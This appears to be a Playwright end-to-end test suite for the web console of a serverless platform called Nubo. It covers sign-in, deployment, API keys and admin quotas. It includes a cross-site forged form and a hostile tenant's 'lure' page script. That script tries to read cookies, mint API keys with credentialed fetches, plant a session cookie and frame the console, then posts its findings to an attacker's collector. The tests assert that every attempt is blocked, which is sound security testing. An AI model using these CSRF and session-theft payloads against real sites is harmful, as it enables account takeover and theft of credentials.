import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type BrowserContext, type Locator, type Page } from 'playwright-core';
import { freePort } from '../helpers/distributed-stack.js';
import { call } from '../helpers/http.js';
import { startNubo, type TestNubo } from '../helpers/nubo.js';
import { eventually } from '../helpers/processes.js';
import { tempDir } from '../helpers/temp-dir.js';

/** Screenshots for a person to look at; the folder is not committed. */
const screenshots = fileURLToPath(new URL('../../../test-output/screenshots/', import.meta.url));
const chromiumPath = process.env.NUBO_CHROMIUM ?? '/usr/bin/chromium';
const password = 'correct horse battery';
const desktop = { width: 1280, height: 900 };
const phone = { width: 390, height: 844 };

async function shoot(page: Page, name: string): Promise<void> {
  for (const [size, viewport] of [
    ['desktop', desktop],
    ['phone', phone],
  ] as const) {
    await page.setViewportSize(viewport);
    await page.screenshot({ path: join(screenshots, `${name}-${size}.png`), fullPage: true });
  }
  await page.setViewportSize(desktop);
}

/**
 * A hostile tenant's page, served by its HTTP trigger: it tries to read, use, plant and frame the
 * console's session from the browser of whoever opens it, then sends what it got to its owner.
 */
const lurePage = (consoleUrl: string) => `<!doctype html><html><body><p id="state">working</p><script>
const consoleUrl = ${JSON.stringify(consoleUrl)};
const results = {};
const attempt = async (name, fn) => { try { results[name] = await fn(); } catch (e) { results[name] = 'blocked: ' + e.message; } };
const inFrame = (setUp) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random().toString(36).slice(2);
  document.body.append(frame);
  frame.onload = () => { try { resolve('read: ' + frame.contentDocument.body.innerText.slice(0, 200)); } catch (e) { resolve('blocked: ' + e.message); } };
  setUp(frame);
  setTimeout(() => resolve('no answer'), 5000);
});
(async () => {
  await attempt('cookies', () => document.cookie);
  await attempt('scripted', () => fetch(consoleUrl + '/v1/keys', { method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json', 'x-nubo-console': '1' }, body: '{"name":"scripted"}' }).then((r) => 'answered ' + r.status));
  await attempt('simple', () => fetch(consoleUrl + '/v1/keys', { method: 'POST', credentials: 'include', mode: 'no-cors',
    headers: { 'content-type': 'text/plain' }, body: '{"name":"simple"}' }).then((r) => 'sent, ' + r.type));
  await attempt('read', () => fetch(consoleUrl + '/v1/auth/me', { credentials: 'include' }).then((r) => r.text()));
  await attempt('sessions', () => fetch(consoleUrl + '/v1/auth/sessions', { credentials: 'include' }).then((r) => r.text()));
  await attempt('plant', () => { document.cookie = 'nubo_session=planted; path=/'; return document.cookie; });
  await attempt('frame', () => inFrame((frame) => { frame.src = consoleUrl + '/'; }));
  await attempt('form', () => inFrame((frame) => {
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: consoleUrl + '/v1/keys', enctype: 'text/plain', target: frame.name });
    const input = document.createElement('input');
    Object.assign(input, { name: '{"name":"form","x":"', value: '"}' });
    form.append(input);
    document.body.append(form);
    form.submit();
  }));
  await fetch(location.origin + '/fn/mallory/collect/', { method: 'POST', body: JSON.stringify(results) });
  document.getElementById('state').textContent = 'done';
})();
</script></body></html>`;

/** Waits for what success shows; an error the page shows instead fails the test with its text. */
async function successOrAlert(page: Page, success: Locator): Promise<void> {
  const alert = page.getByRole('alert');
  await success
    .or(alert)
    .first()
    .waitFor()
    .catch(async (err) => {
      await page.screenshot({ path: join(screenshots, 'failure.png'), fullPage: true });
      throw err;
    });
  if (await alert.isVisible()) assert.fail(`the page says: ${await alert.textContent()}`);
}

async function signIn(page: Page, url: string, username: string): Promise<void> {
  await page.goto(url);
  await page.getByLabel('Username').fill(username);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Functions' }).waitFor();
}

describe('the web console in a real browser (Chromium)', () => {
  let nubo: TestNubo;
  let alice: string;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let codeDir: string;
  let crossSite: Server;
  let crossSiteUrl: string;
  let calls = 0;

  const invokeByApi = async (body: unknown) => {
    const res = await nubo.call('POST', '/v1/functions/hello/invoke', { key: alice, body });
    assert.equal(res.status, 200, res.text);
    calls++;
    return res.headers.get('x-nubo-request-id')!;
  };

  before(async () => {
    await mkdir(screenshots, { recursive: true });
    nubo = await startNubo();
    alice = await nubo.signup('alice');
    await nubo.signup('bob');
    codeDir = join(await tempDir(), 'hello');
    await mkdir(join(codeDir, 'lib'), { recursive: true });
    await writeFile(join(codeDir, 'lib', 'greeting.mjs'), "export const greet = (name) => 'hello ' + name;\n");
    await writeFile(
      join(codeDir, 'index.mjs'),
      "import { greet } from './lib/greeting.mjs';\nexport const handler = async (event) => { console.log(greet(event.name)); return { greeting: greet(event.name) }; };\n",
    );
    // A page on another origin (another port of this host: the same site, so the cookie goes along).
    const port = await freePort('127.0.0.1');
    crossSiteUrl = `http://127.0.0.1:${port}`;
    crossSite = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<form id="forged" method="POST" action="${nubo.url}/v1/keys" enctype="text/plain">
        <input name='{"name":"forged","x":"' value='"}'></form>`);
    }).listen(port, '127.0.0.1');
    browser = await chromium.launch({ executablePath: chromiumPath, args: ['--no-sandbox'] });
    context = await browser.newContext({ viewport: desktop });
    page = await context.newPage();
    page.on('dialog', (dialog) => void dialog.accept());
  });

  after(async () => {
    await browser?.close();
    crossSite?.close();
    await nubo?.close();
  });

  it('signs in with username and password', async () => {
    await page.goto(nubo.url);
    await page.getByLabel('Password').fill('wrong password!');
    await page.getByLabel('Username').fill('alice');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').filter({ hasText: 'Wrong username or password' }).waitFor();
    await signIn(page, nubo.url, 'alice');
    await page.getByText('No functions yet').waitFor();
    const [cookie] = await context.cookies();
    assert.equal(cookie?.name, 'nubo_session');
    assert.equal(cookie?.httpOnly, true);
    assert.equal(cookie?.sameSite, 'Strict');
  });

  it('deploys a function from a folder', async () => {
    await page.getByRole('link', { name: 'Deploy a function' }).click();
    await page.getByLabel('Function name').fill('hello');
    await page.getByLabel('Folder').setInputFiles(codeDir);
    await page.getByText('2 files').waitFor();
    await page.getByLabel('Handler').fill('index.handler');
    await page.getByRole('button', { name: 'Deploy', exact: true }).click();
    await successOrAlert(page, page.getByRole('heading', { name: 'hello', exact: true }));
    assert.match(page.url(), /#\/functions\/hello$/);
    const detail = await nubo.call('GET', '/v1/functions/hello', { key: alice });
    assert.equal(detail.body.activeVersion, 1);
  });

  it('shows a failed deploy with the API message', async () => {
    await page.goto(`${nubo.url}/#/deploy/hello`);
    await page.getByLabel('Folder').setInputFiles(codeDir);
    await page.getByLabel('Handler').fill('missing.handler');
    await page.getByRole('button', { name: 'Deploy', exact: true }).click();
    await page.getByRole('alert').filter({ hasText: 'missing' }).waitFor();
    await page.goto(`${nubo.url}/#/functions/hello`);
  });

  it('invokes from the browser and shows the result, headers and output', async () => {
    await page.getByLabel('Event (JSON)').fill('{"name": "browser"}');
    await page.getByRole('button', { name: 'Invoke', exact: true }).click();
    const result = page.locator('#invoke-result');
    await result.getByText('hello browser', { exact: false }).first().waitFor();
    calls++;
    const text = await result.textContent();
    assert.match(text ?? '', /200/);
    assert.match(text ?? '', /x-nubo-cold-start/);
    assert.match(text ?? '', /"greeting": "hello browser"/);
    assert.match((await result.locator('pre.output').textContent()) ?? '', /hello browser/, 'the captured output');
  });

  it('follows a new invocation in the live tail', async () => {
    await page.getByLabel('Live tail').check();
    await page.locator('#tail-state').getByText('following').waitFor();
    const requestId = await invokeByApi({ name: 'tail' });
    const row = page.locator(`li[data-request-id="${requestId}"]`);
    await row.waitFor();
    await row.locator('summary').click();
    assert.match((await row.textContent()) ?? '', /hello tail/);
    await page.getByLabel('Live tail').uncheck();
  });

  it('draws the charts with one point per bucket and the known number of calls', async () => {
    for (let n = 0; n < 5; n++) await invokeByApi({ name: `load ${n}` });
    await page.reload();
    const charts = page.locator('figure.chart');
    // (Locators, not page functions: the console's content security policy forbids evaluating strings.)
    await page.locator('figure.chart canvas').nth(5).waitFor();
    assert.equal(await charts.count(), 6);
    for (const chart of await charts.all()) assert.equal(await chart.getAttribute('data-points'), '60', 'an hour by minute');
    const perMinute = charts.filter({ hasText: 'Invocations per minute' });
    assert.equal(Number(await perMinute.getAttribute('data-sum')), calls, 'every call of this test, counted by the store');
    await shoot(page, 'function');
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.screenshot({ path: join(screenshots, 'function-dark-desktop.png'), fullPage: true });
    await page.emulateMedia({ colorScheme: 'light' });
    await page.getByLabel('15 min').check();
    await page.locator('figure.chart[data-points="30"]').nth(5).waitFor();
    assert.equal(await page.locator('figure.chart[data-points="60"]').count(), 0);
  });

  it('lists functions with their sparklines, sortable and filterable', async () => {
    await page.getByRole('link', { name: 'Functions' }).click();
    const row = page.locator('tr[data-function="hello"]');
    await row.locator('svg.spark').first().waitFor();
    assert.equal(await row.locator('svg.spark').count(), 3);
    assert.match((await row.textContent()) ?? '', new RegExp(`\\b${calls}\\b`));
    await page.getByLabel('Filter by name or runtime').fill('nothing-like-it');
    await row.waitFor({ state: 'detached' });
    await page.getByLabel('Filter by name or runtime').fill('');
    await row.waitFor();
    await page.getByRole('button', { name: 'Calls (1 h)' }).click();
    assert.equal(await page.locator('th[aria-sort="ascending"]').textContent(), 'Calls (1 h)');
    await shoot(page, 'functions');
  });

  it('creates an API key shown once, and revokes it', async () => {
    await page.getByRole('link', { name: 'API keys' }).click();
    await page.getByLabel('Name of the new key').fill('ci');
    await page.getByRole('button', { name: 'Create key' }).click();
    const issued = (await page.locator('#issued-key').textContent())!;
    assert.equal((await call(nubo.url, 'GET', '/v1/auth/me', { key: issued })).status, 200, 'the new key works');
    // Her quotas count the new key (the sign-up's and this one).
    await page.locator('#own-quotas tr[data-quota="apiKeys"] td.used', { hasText: /^2$/ }).waitFor();
    await shoot(page, 'keys');
    await page
      .locator('tr', { hasText: 'ci' })
      .getByRole('button', { name: /Revoke/ })
      .click();
    await page.locator('tr', { hasText: 'ci' }).waitFor({ state: 'detached' });
    assert.equal((await call(nubo.url, 'GET', '/v1/auth/me', { key: issued })).status, 401, 'the revoked key does not');
  });

  it('shows the admin the cluster: managers, pools and users', async () => {
    await page.getByRole('link', { name: 'Cluster' }).click();
    await page.locator('#managers tbody tr').first().waitFor();
    await page.locator('#pools tbody tr', { hasText: 'hello' }).waitFor();
    await page.locator('#gateways tbody tr', { hasText: nubo.url }).waitFor();
    assert.equal(await page.locator('#users tbody tr').count(), 2);
    await shoot(page, 'cluster');
    // The admin sets bob's quota of functions, and puts it back.
    await page.getByRole('button', { name: 'Quotas of bob' }).click();
    await page.getByLabel('functions of bob').fill('7');
    await page.getByRole('button', { name: 'Save quotas' }).click();
    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const bobs = async () => (await nubo.call('GET', '/v1/admin/users/bob/quotas', { key: alice })).body;
    assert.deepEqual((await bobs()).overrides, { functions: 7 });
    await page.getByLabel('functions of bob').fill('');
    await page.getByRole('button', { name: 'Save quotas' }).click();
    await eventually('the default is back', async () => Object.keys((await bobs()).overrides).length === 0);
    await page.getByRole('link', { name: 'Deploy' }).click();
    await page.getByLabel('Runtime').waitFor();
    await shoot(page, 'deploy');
  });

  it('refuses a request forged on another origin', async () => {
    const keysBefore = (await nubo.call('GET', '/v1/keys', { key: alice })).body.length;
    const crossSitePage = await context.newPage();
    await crossSitePage.goto(crossSiteUrl);
    await Promise.all([crossSitePage.waitForNavigation(), crossSitePage.evaluate("document.getElementById('forged').submit()")]);
    assert.match((await crossSitePage.textContent('body')) ?? '', /NUBO_ERR_AUTH_CROSS_SITE/);
    await crossSitePage.goto(crossSiteUrl);
    // Runs in the cross-site page: the console's header makes the browser ask first (CORS preflight).
    const scripted = await crossSitePage.evaluate<string>(`fetch(${JSON.stringify(`${nubo.url}/v1/keys`)}, {
      method: 'POST',
      credentials: 'include',
      headers: { 'content-type': 'application/json', 'x-nubo-console': '1' },
      body: '{"name":"scripted"}',
    }).then((res) => 'answered ' + res.status, (err) => 'blocked: ' + err.message)`);
    assert.match(scripted, /^blocked/, 'the browser gets no CORS grant for the console header');
    await crossSitePage.close();
    assert.equal((await nubo.call('GET', '/v1/keys', { key: alice })).body.length, keysBefore, 'no key was made');
  });

  it('a signed-in user who opens a hostile tenant’s page loses nothing: no key, no session, no cookie', async () => {
    const mallory = await nubo.signup('mallory');
    await nubo.deploy(
      mallory,
      'lure',
      {
        'index.mjs': `export const handler = async () => ({ statusCode: 200, headers: { 'content-type': 'text/html' }, body: ${JSON.stringify(lurePage(nubo.url))} });`,
      },
      { public: true },
    );
    await nubo.deploy(
      mallory,
      'collect',
      { 'index.mjs': "export const handler = async (event) => { console.log('collected ' + event.body); return 'thanks'; };" },
      { public: true },
    );
    const [session] = await context.cookies(nubo.url);
    assert.equal(session?.name, 'nubo_session', 'alice is signed in');
    const keysBefore = (await nubo.call('GET', '/v1/keys', { key: alice })).body;
    const sessionsBefore = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;

    const lure = await context.newPage();
    await lure.goto(`${nubo.triggerUrl}/fn/mallory/lure/`);
    await lure.locator('#state', { hasText: 'done' }).waitFor({ timeout: 30_000 });
    await lure.close();
    const collected = await eventually('the page reported to its owner', async () => {
      const logs = (await nubo.call('GET', '/v1/functions/collect/logs', { key: mallory })).body as { logs: string }[];
      return logs[0]?.logs;
    });
    const results = JSON.parse(collected.slice(collected.indexOf('{')));
    assert.ok(!collected.includes(session.value), 'the session token never reached the page');
    assert.doesNotMatch(results.cookies, /nubo_session/, 'no session cookie is readable there');
    assert.match(results.scripted, /^blocked/, 'a script gets no CORS grant to call the API');
    assert.match(results.read, /^blocked/, 'nor to read it');
    assert.match(results.sessions, /^blocked/);
    assert.doesNotMatch(results.frame, /^read/, 'the console cannot be framed and read');
    assert.doesNotMatch(results.form, /^read/);

    assert.deepEqual((await nubo.call('GET', '/v1/keys', { key: alice })).body, keysBefore, 'no key was minted');
    assert.deepEqual(
      (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body.map((s: { id: string }) => s.id),
      sessionsBefore.map((s: { id: string }) => s.id),
      'no session was opened or ended',
    );
    assert.deepEqual(await context.cookies(nubo.url), [session], "the console's cookie is unchanged");
    await page.goto(nubo.url);
    await page.getByRole('heading', { name: 'Functions' }).waitFor();
    const me = await page.evaluate<string>("fetch('/v1/auth/me').then((r) => r.json()).then((u) => u.username)");
    assert.equal(me, 'alice', 'the console is still signed in as its own user');
  });

  it('signs out, and a second user sees none of the first one’s functions', async () => {
    await page.goto(nubo.url);
    const sessionsBefore = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
    const sessions = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;
    assert.equal(sessions.length, sessionsBefore.length - 1, 'signing out ended the session');
    await signIn(page, nubo.url, 'bob');
    await page.getByText('No functions yet').waitFor();
    assert.equal(await page.getByRole('link', { name: 'Cluster' }).count(), 0);
    await page.goto(`${nubo.url}/#/functions/hello`);
    await page.getByRole('alert').filter({ hasText: 'no function named "hello"' }).waitFor();
  });
});
